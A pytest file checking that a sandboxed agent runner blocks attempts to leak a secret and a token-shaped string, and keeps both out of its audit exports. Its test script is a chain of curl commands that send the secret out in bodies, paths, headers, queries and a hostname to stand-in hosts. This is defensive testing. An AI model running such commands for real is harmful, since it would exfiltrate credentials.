"""No secret is in a log: neither a credential, nor what the scanner found, nor what a refused address was made of."""

import json
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from shop import Shop

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")

SECRET = "correct-horse-battery-staple-71"
TOKEN = "ghp_" + "a1B2c3D4e5F6" * 3  # the form of a token that scanners look for


class Echo(BaseHTTPRequestHandler):
    """Answers with the credential that it was sent, as a careless server does."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["content-length"]))
        answer = self.headers.get("authorization", "").encode()
        self.send_response(200)
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, format: str, *args: object) -> None:
        """Silent."""


@pytest.fixture
def echo() -> Iterator[int]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Echo) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield int(server.server_address[1])
        server.shutdown()
        thread.join()


def test_neither_a_credential_nor_what_the_scanner_found_is_in_a_log(shop: Shop, echo: int) -> None:
    to = {"host": "plain.example.com", "ports": [80], "header": "authorization", "format": "Bearer {value}"}
    manifest = {
        "agent": "shell",
        "credentials": [{"name": "service", "from": {"file": str(shop.home / "secret")}, "to": to}],
        "egress": {
            "rules": [{"host": "plain.example.com", "ports": [80], "scheme": "http"}],
            "upstream": {"connect": {"plain.example.com:80": f"127.0.0.1:{echo}"}},
        },
    }
    (shop.home / "secret").write_text(SECRET + "\n")
    (shop.home / "bottle.yaml").write_text(json.dumps(manifest))
    send = "curl -s -m 10 --data"
    script = "; ".join(
        (
            f"{send} hello http://plain.example.com/ok",
            f"{send} {TOKEN} http://plain.example.com/body",
            f"{send} {SECRET} http://plain.example.com/body",
            f"{send} x http://plain.example.com/{TOKEN}/{SECRET}",
            f"{send} x -H 'x-key: {SECRET}' 'http://plain.example.com/q?k={TOKEN}'",
            f"{send} x http://nobody.example/{SECRET}",
            f"{send} x http://{SECRET}.nobody.example/",
        )
    )
    name = ("--name", "one", "-f", str(shop.home / "bottle.yaml"))
    done = shop.bot_bottle("run", "-q", *name, "shell", "--", "sh", "-c", script)
    shown = shop.bot_bottle("audit", "show", "one", "--json")
    assert shown.returncode == 0, shown.stderr
    events = [json.loads(line) for line in shown.stdout.splitlines()]
    found = {event["where"] for event in events if event["event"] == "finding"}
    assert len(found) >= 3, (done, found)
    decisions = [event for event in events if event["event"] == "decision"]
    assert decisions[0]["credentials"] == ["service"]
    assert [event["verdict"] for event in decisions] == ["allow", *("deny",) * 6]
    for form in ("otel", "har", "csv", "jsonl"):
        text = shop.bot_bottle("audit", "export", "one", "--format", form).stdout.decode()
        assert SECRET not in text
        assert TOKEN not in text
